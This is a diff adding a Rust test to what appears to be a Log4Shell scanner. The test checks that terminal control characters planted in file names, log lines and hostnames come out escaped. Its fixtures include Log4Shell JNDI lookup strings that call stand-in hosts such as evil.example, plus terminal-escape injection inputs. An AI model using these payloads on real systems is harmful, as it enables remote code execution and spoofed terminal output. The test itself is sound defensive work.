@@ -78,3 +78,106 @@ fn an_unsupported_language_or_a_garbage_date_is_refused() {
     // Good values still work.
     assert_eq!(run(Some("en"), Some("2026-01-15")).status.code(), Some(0));
 }
+
+/// Planted terminal controls: clear screen, an OSC window title, a carriage return and a
+/// bidi override.
+const CONTROLS: &[&str] = &["\u{1b}[2J", "\u{1b}]0;pwned\u{7}", "\r", "\u{202e}"];
+
+/// Whether printed text holds a character a terminal would act on (newlines aside).
+fn hidden_char(s: &str) -> Option<char> {
+    s.chars().find(|c| {
+        (c.is_control() && *c != '\n')
+            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+    })
+}
+
+#[test]
+fn nothing_from_an_attacker_reaches_the_terminal_as_control_characters() {
+    use praxcheck_testsupport::jar::JarBuilder;
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("praxis");
+    std::fs::create_dir_all(&root).unwrap();
+    for (i, ctl) in CONTROLS.iter().enumerate() {
+        // A log named with the control, and lines carrying it in payload and callback host.
+        std::fs::write(
+            root.join(format!("app{i}{ctl}.log")),
+            format!(
+                "2021-12-11 10:00:0{i},000 INFO ${{jndi:ldap://evil{ctl}.example:1389/a{ctl}b}}\n\
+                 2021-12-11 10:00:0{i},000 INFO ${{jndi:dns://x{ctl}y.example/{ctl}}} from 10.0.0.{i}\n"
+            ),
+        )
+        .unwrap();
+        // An archive entry named with the control, holding a vulnerable log4j-core.
+        let inner = JarBuilder::new()
+            .pom("org.apache.logging.log4j", "log4j-core", "2.14.1")
+            .finish();
+        let outer = JarBuilder::new()
+            .add(&format!("lib/inner{ctl}.jar"), &inner)
+            .finish();
+        std::fs::write(root.join(format!("app{i}{ctl}.jar")), outer).unwrap();
+        // A broken archive: its name is shown among the unreadable files.
+        std::fs::write(
+            root.join(format!("broken{i}{ctl}.jar")),
+            b"PK\x03\x04broken",
+        )
+        .unwrap();
+    }
+    let p = root.to_str().unwrap();
+    let json = dir.path().join("doc.json");
+    for format in ["text", "overview"] {
+        for cmd in ["logs", "scan"] {
+            let mut c = Command::new(env!("CARGO_BIN_EXE_praxcheck"));
+            c.env_remove("LANG").env("NO_COLOR", "1");
+            c.args([cmd, "--path", p, "--format", format, "--all"]);
+            if cmd == "scan" {
+                c.arg("--no-processes");
+            }
+            let o = c.output().unwrap();
+            let out = String::from_utf8_lossy(&o.stdout);
+            let err = String::from_utf8_lossy(&o.stderr);
+            assert!(!out.is_empty(), "{cmd} {format}: {err}");
+            assert_eq!(hidden_char(&out), None, "{cmd} {format}: {out:?}");
+            assert_eq!(hidden_char(&err), None, "{cmd} {format}: {err:?}");
+            if cmd == "scan" && format == "text" {
+                // The escapes are shown where the controls were.
+                assert!(out.contains("\\x1b[2J"), "{out}");
+                assert!(out.contains("\\x1b]0;pwned\\x07"), "{out}");
+                assert!(out.contains("\\r"), "{out}");
+            }
+        }
+    }
+    // Hostnames and other strings read from a stored document.
+    let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
+        .args([
+            "scan",
+            "--path",
+            p,
+            "--no-processes",
+            "--format",
+            "json",
+            "-q",
+        ])
+        .arg("--output")
+        .arg(&json)
+        .output()
+        .unwrap();
+    assert!(json.exists(), "{}", String::from_utf8_lossy(&o.stderr));
+    let mut doc: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
+    doc["scan"]["hostname"] = serde_json::json!(format!("pc{}", CONTROLS.concat()));
+    std::fs::write(&json, serde_json::to_vec(&doc).unwrap()).unwrap();
+    for format in ["text", "overview"] {
+        let o = Command::new(env!("CARGO_BIN_EXE_praxcheck"))
+            .env_remove("LANG")
+            .env("NO_COLOR", "1")
+            .args(["report", "--format", format, "--all", "--from"])
+            .arg(&json)
+            .output()
+            .unwrap();
+        let out = String::from_utf8_lossy(&o.stdout);
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert!(out.contains("pc\\x1b[2J"), "{format}: {out}{err}");
+        assert_eq!(hidden_char(&out), None, "report {format}: {out:?}");
+        assert_eq!(hidden_char(&err), None, "report {format}: {err:?}");
+    }
+}
